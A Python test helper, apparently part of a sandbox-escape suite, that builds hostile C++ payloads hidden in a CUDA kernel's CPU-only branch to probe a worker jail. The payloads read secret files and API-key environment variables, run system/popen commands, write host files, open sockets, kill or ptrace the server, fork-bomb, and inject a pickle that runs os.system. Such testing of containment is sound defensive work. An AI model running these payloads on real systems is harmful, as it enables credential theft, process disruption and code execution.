"""Hostile kernels: a payload behind ``#ifdef CUDAOPT_CPU_H`` runs inside the worker and reports what it reached."""

from __future__ import annotations

import json
import secrets as _random
from collections.abc import Iterable
from pathlib import Path

from tests.cudaopt_mcp.jail_attack_kit.tasks import LEAK_BYTES


def c_str(text: str) -> str:
    """A C string literal (ASCII paths and commands)."""
    return json.dumps(text)


def c_bytes(data: bytes) -> str:
    return "{" + ", ".join(str(b) for b in data) + "}"


PRELUDE = r"""
#ifdef CUDAOPT_CPU_H
extern "C" {
extern char** environ;
long read(int, void*, unsigned long);
long write(int, const void*, unsigned long);
int open(const char*, int, ...);
int close(int);
int fork(void);
void _exit(int);
unsigned int sleep(unsigned int);
int usleep(unsigned int);
int getpid(void);
int getppid(void);
int kill(int, int);
int socket(int, int, int);
int connect(int, const void*, unsigned int);
int symlink(const char*, const char*);
int link(const char*, const char*);
int unlink(const char*);
int mkdir(const char*, unsigned int);
long readlink(const char*, char*, unsigned long);
long ptrace(long, long, void*, void*);
int prctl(int, unsigned long, unsigned long, unsigned long, unsigned long);
int* __errno_location(void);
struct jx_dirent { unsigned long ino; long off; unsigned short reclen; unsigned char type; char name[256]; };
void* opendir(const char*);
jx_dirent* readdir(void*);
int closedir(void*);
int pthread_create(unsigned long*, const void*, void* (*)(void*), void*);
int inotify_init1(int);
int inotify_add_watch(int, const char*, unsigned int);
}
static unsigned char jx_buf[JX_CAP];
static unsigned long jx_len;
static void jx_put(const void* p, unsigned long n) {
    if (n > JX_CAP - jx_len) n = JX_CAP - jx_len;
    memcpy(jx_buf + jx_len, p, n);
    jx_len += n;
}
static void jx_puts(const char* s) { jx_put(s, strlen(s)); }
#define JX_PRINTF(...) do { char jx_t_[1024]; int jx_n_ = snprintf(jx_t_, sizeof jx_t_, __VA_ARGS__); \
    if (jx_n_ > 0) jx_put(jx_t_, jx_n_ < (int)sizeof jx_t_ ? jx_n_ : (int)sizeof jx_t_ - 1); } while (0)
static int jx_errno() { return *__errno_location(); }
static void jx_file(const char* path) {
    int fd = open(path, 0);
    if (fd < 0) { JX_PRINTF("F %s: errno %d\n", path, jx_errno()); return; }
    JX_PRINTF("F %s: opened\n", path);
    char b[4096];
    long n;
    unsigned long total = 0;
    while (total < 8192 && (n = read(fd, b, sizeof b)) > 0) { jx_put(b, n); total += n; }
    close(fd);
    jx_puts("\n");
}
static void jx_write(const char* path) {  /* create a new file */
    int fd = open(path, 01 | 0100 | 0200, 0644);  /* O_WRONLY | O_CREAT | O_EXCL */
    if (fd < 0) { JX_PRINTF("W %s: errno %d\n", path, jx_errno()); return; }
    long n = write(fd, "jx-pwned\n", 9);
    close(fd);
    JX_PRINTF("W %s: WROTE %ld\n", path, n);
}
static void jx_modify(const char* path) {  /* open an existing file for writing; write nothing */
    int fd = open(path, 01 | 02000);  /* O_WRONLY | O_APPEND */
    if (fd < 0) { JX_PRINTF("M %s: errno %d\n", path, jx_errno()); return; }
    close(fd);
    JX_PRINTF("M %s: OPENED FOR WRITING\n", path);
}
static void jx_ls(const char* path) {
    void* d = opendir(path);
    if (!d) { JX_PRINTF("L %s: errno %d\n", path, jx_errno()); return; }
    JX_PRINTF("L %s:", path);
    while (jx_dirent* e = readdir(d)) JX_PRINTF(" %s", e->name);
    closedir(d);
    jx_puts("\n");
}
static int jx_is_pid(const char* s) { if (!*s) return 0; for (; *s; ++s) if (*s < '0' || *s > '9') return 0; return 1; }
static void jx_cmdline(int pid, char* out, unsigned long size) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
    out[0] = 0;
    int fd = open(path, 0);
    if (fd < 0) return;
    long n = read(fd, out, size - 1);
    close(fd);
    if (n < 0) n = 0;
    for (long k = 0; k < n; ++k) if (out[k] == 0) out[k] = ' ';
    out[n] = 0;
}
static void jx_connect_inet(unsigned a, unsigned b, unsigned c, unsigned d, int port) {
    struct { unsigned short family, port; unsigned addr; unsigned char zero[8]; } sa;
    memset(&sa, 0, sizeof sa);
    sa.family = 2;
    sa.port = (unsigned short)(((port & 0xff) << 8) | ((port >> 8) & 0xff));
    sa.addr = a | (b << 8) | (c << 16) | (d << 24);
    int s = socket(2, 1, 0);
    int rc = connect(s, &sa, sizeof sa);
    JX_PRINTF("C %u.%u.%u.%u:%d rc=%d errno=%d\n", a, b, c, d, port, rc, rc ? jx_errno() : 0);
    if (rc == 0) write(s, "JX-CONNECTED\n", 13);
    close(s);
}
static void jx_connect_abstract(const char* name) {
    struct { unsigned short family; char path[108]; } sa;
    memset(&sa, 0, sizeof sa);
    sa.family = 1;
    strncpy(sa.path + 1, name, sizeof sa.path - 2);
    int s = socket(1, 1, 0);
    int rc = connect(s, &sa, (unsigned)(2 + 1 + strlen(name)));
    JX_PRINTF("U @%s rc=%d errno=%d\n", name, rc, rc ? jx_errno() : 0);
    if (rc == 0) write(s, "JX-CONNECTED\n", 13);
    close(s);
}
static int jx_answer_fd() {  /* the worker answers its parent on the fd named by its last argument */
    char cmd[4096];
    int fd = open("/proc/self/cmdline", 0);
    long n = fd < 0 ? 0 : read(fd, cmd, sizeof cmd - 1);
    if (fd >= 0) close(fd);
    if (n <= 0) return -1;
    cmd[n] = 0;
    long end = n;
    while (end > 0 && cmd[end - 1] == 0) --end;
    long start = end;
    while (start > 0 && cmd[start - 1] != 0) --start;
    return atoi(cmd + start);
}
static void jx_frame(const unsigned char* data, unsigned len, unsigned announced) {
    int fd = jx_answer_fd();
    unsigned char head[4] = {(unsigned char)(announced >> 24), (unsigned char)(announced >> 16),
                             (unsigned char)(announced >> 8), (unsigned char)announced};
    long a = write(fd, head, 4);
    long b = write(fd, data, len);
    JX_PRINTF("P frame on fd %d: %ld %ld\n", fd, a, b);
}
static void jx_payload();
static void jx_run() {
    jx_puts("JX-BEGIN\n");
    jx_payload();
    jx_puts("JX-END\n");
    /* the log gets what the payload learnt (its head and tail when long), kernel printf a line */
    if (jx_len <= 6144) fwrite(jx_buf, 1, jx_len, stderr);
    else { fwrite(jx_buf, 1, 4096, stderr); fputs("\n...\n", stderr); fwrite(jx_buf + jx_len - 2048, 1, 2048, stderr); }
    fflush(stderr);
    printf("JX-STDOUT %lu bytes learnt\n", jx_len);
    fflush(stdout);
}
#endif
"""

KERNEL = r"""
extern "C" __global__ void jailbox(const float* in, float* out, int n)
{
    const int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i >= n) return;
    float v = 2.0f * in[i];
#ifdef CUDAOPT_CPU_H
JX_IN_KERNEL
    if (JX_TO_OUTPUT && (unsigned long)4 * i < jx_len) memcpy(&v, jx_buf + (unsigned long)4 * i, 4);
#endif
    out[i] = v;
}
"""


def kernel(payload: str, *, where: str = "static", to_output: bool = True, nonce: str | None = None,
           extra: str = "") -> str:
    """The jailbox kernel with ``payload`` (C++ statements) in its cpu-only branch.

    ``where``: ``static`` runs it when the worker loads the library, ``kernel`` inside the kernel (once,
    the first thread to get there; the others wait for it). ``to_output``: the leak replaces the first
    elements of ``out`` (the case then fails and its outputs are kept). ``extra``: more file-scope C++.
    """
    nonce = nonce or _random.token_hex(6)  # a fresh source: the kernel cache never hands back an old build
    in_kernel = "    static int jx_once = (jx_run(), 0);\n    (void)jx_once;" if where == "kernel" else ""
    body = KERNEL.replace("JX_IN_KERNEL", in_kernel).replace("JX_TO_OUTPUT", "1" if to_output else "0")
    cpu = (f"#ifdef CUDAOPT_CPU_H\n{extra}\nstatic void jx_payload() {{\n{payload}\n}}\n"
           + ("static int jx_init = (jx_run(), 0);\n" if where == "static" else "") + "#endif\n")
    return f"// jail attack {nonce}\n#define JX_CAP {LEAK_BYTES}\n" + PRELUDE + cpu + body


def read_files(paths: Iterable[str]) -> str:
    return "\n".join(f"    jx_file({c_str(p)});" for p in paths)


def secret_paths(secret: Path) -> list[str]:
    """The secret file by every name a jailed process might reach it by."""
    s = str(secret)
    return [s, f"/proc/1/root{s}", f"/proc/self/root{s}", f"/proc/2/root{s}", f"/proc/1/cwd/../../../../../..{s}",
            f"/proc/self/cwd/../../../../../../..{s}", f"/dev/fd/../../..{s}", f"//{s}", f"/./{s}"]


ENV_DUMP = r"""{
    const char* names[] = {"CUDAOPT_MCP_TOKEN", "OPENAI_API_KEY", "HOME", "PATH"};
    for (const char* name : names) { const char* v = getenv(name); JX_PRINTF("E %s=%s\n", name, v ? v : "(unset)"); }
    for (char** e = environ; *e; ++e) JX_PRINTF("ENV %s\n", *e);
    jx_file("/proc/self/environ");
    jx_file("/proc/1/environ");
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/environ", getppid());
    jx_file(path);
    void* d = opendir("/proc");
    while (jx_dirent* e = d ? readdir(d) : nullptr) {
        if (!jx_is_pid(e->name)) continue;
        snprintf(path, sizeof path, "/proc/%s/environ", e->name);
        jx_file(path);
    }
    if (d) closedir(d);
}
"""


def system_and_popen(secret: Path, host_out: list[Path]) -> str:
    cmd = "; ".join([f"cat {secret} > {host_out[0]} 2>/dev/null", f"env > {host_out[1]} 2>/dev/null",
                     f"cp {secret} {host_out[2]} 2>/dev/null", f"cat {secret}", "echo JX-SYSTEM-RAN", "id"])
    pop = f"cat {secret} 2>&1; echo JX-POPEN-RAN; env; ls -la / /tmp"
    return f"""{{
    int rc = system({c_str(cmd)});
    JX_PRINTF("S system rc=%d\\n", rc);
    FILE* p = popen({c_str(pop)}, "r");
    char b[1024];
    unsigned long n;
    while (p && (n = fread(b, 1, sizeof b, p)) > 0) jx_put(b, n);
    if (p) JX_PRINTF("S pclose=%d\\n", pclose(p)); else JX_PRINTF("S popen errno %d\\n", jx_errno());
}}
"""


def host_writes(new_files: Iterable[Path], existing: Iterable[Path]) -> str:
    lines = ["    {"] + [f"    jx_write({c_str(str(p))});" for p in new_files]
    lines += [f"    jx_modify({c_str(str(p))});" for p in existing]
    # inside the jail, its own scratch folder is writable: the positive control
    lines.append(r"""
    void* shm = opendir("/dev/shm");
    while (jx_dirent* e = shm ? readdir(shm) : nullptr) {
        if (strncmp(e->name, "cudaopt-inputs-", 15)) continue;
        char path[512];
        snprintf(path, sizeof path, "/dev/shm/%s/scratch/jx-inside-scratch", e->name);
        jx_write(path);
        unlink(path);
        snprintf(path, sizeof path, "/dev/shm/%s/inputs/jx-inside-inputs", e->name);
        jx_write(path);
        snprintf(path, sizeof path, "/dev/shm/%s/inputs", e->name);
        jx_ls(path);
    }
    if (shm) closedir(shm);
    jx_ls("/dev/shm");
    char maps[8192];
    int fd = open("/proc/self/maps", 0);
    long n = fd < 0 ? 0 : read(fd, maps, sizeof maps - 1);
    if (fd >= 0) close(fd);
    maps[n > 0 ? n : 0] = 0;
    for (char* line = strtok(maps, "\n"); line; line = strtok(nullptr, "\n")) {
        char* path = strchr(line, '/');
        if (path && (strstr(path, "/kernels/") || strstr(path, "libcudaopt_cpu"))) jx_modify(path);
    }
    }""")
    return "\n".join(lines)


def connects(port: int, abstract: str, extra_ports: Iterable[int] = ()) -> str:
    lines = [f"    jx_connect_inet(127, 0, 0, 1, {port});", f"    jx_connect_inet(127, 0, 0, 2, {port});",
             f"    jx_connect_abstract({c_str(abstract)});"]
    lines += [f"    jx_connect_inet(127, 0, 0, 1, {p});" for p in extra_ports]
    lines.append('    jx_file("/proc/net/tcp");\n    jx_ls("/sys/class/net");')
    return "\n".join(lines)


def kill_server(server_pid: int, needle: str) -> str:
    """List /proc; SIGKILL whatever names ``needle`` (this test's server: its results folder) in its command
    line, and the server's pid as the host numbers it."""
    return f"""{{
    JX_PRINTF("P self=%d parent=%d\\n", getpid(), getppid());
    void* d = opendir("/proc");
    while (jx_dirent* e = d ? readdir(d) : nullptr) {{
        if (!jx_is_pid(e->name)) continue;
        char cmd[512];
        int pid = atoi(e->name);
        jx_cmdline(pid, cmd, sizeof cmd);
        JX_PRINTF("P %d %s\\n", pid, cmd);
        if (pid != getpid() && strstr(cmd, {c_str(needle)}))
            JX_PRINTF("K %d rc=%d\\n", pid, kill(pid, 9));
    }}
    if (d) closedir(d);
    int rc = kill({server_pid}, 9);
    JX_PRINTF("K host pid {server_pid} rc=%d errno=%d\\n", rc, rc ? jx_errno() : 0);
    long t = ptrace(16, {server_pid}, nullptr, nullptr);
    JX_PRINTF("T attach host pid rc=%ld errno=%d\\n", t, t ? jx_errno() : 0);
    t = ptrace(0x4206, getppid(), nullptr, nullptr);  /* PTRACE_SEIZE: attaches without stopping it */
    JX_PRINTF("T seize parent rc=%ld errno=%d\\n", t, t ? jx_errno() : 0);
    if (t == 0) ptrace(17, getppid(), nullptr, nullptr);  /* PTRACE_DETACH */
}}
"""


def fork_bomb(comm: str, forks: int = 300, sleep_s: int = 5) -> str:
    """``forks`` children, each renamed ``comm`` (so the host can look for them) and sleeping ``sleep_s``."""
    return f"""{{
    int ok = 0, fail = 0, err = 0;
    for (int k = 0; k < {forks}; ++k) {{
        int p = fork();
        if (p == 0) {{ prctl(15, (unsigned long){c_str(comm)}, 0, 0, 0); sleep({sleep_s}); _exit(0); }}
        if (p > 0) ++ok; else {{ ++fail; err = jx_errno(); }}
    }}
    JX_PRINTF("FORK ok=%d fail=%d errno=%d\\n", ok, fail, err);
}}
"""


FREEZE_JAIL_INIT = r"""
    long t = ptrace(16, getppid(), nullptr, nullptr);  /* PTRACE_ATTACH: the jail's init (pid 1) stops */
    JX_PRINTF("T attach parent %d rc=%ld errno=%d\n", getppid(), t, t ? jx_errno() : 0);
"""


def pickle_command(command: str) -> bytes:
    """A pickle (protocol 0) whose loading runs ``command`` with os.system and gives ("bug", status)."""
    assert "\n" not in command and "\\" not in command
    return b"(Vbug\ncos\nsystem\n(V" + command.encode() + b"\ntRt."


def pickle_injection(command: str) -> str:
    data = pickle_command(command)
    return f"""
    static const unsigned char pickle[] = {c_bytes(data)};
    jx_frame(pickle, sizeof pickle, sizeof pickle);
"""
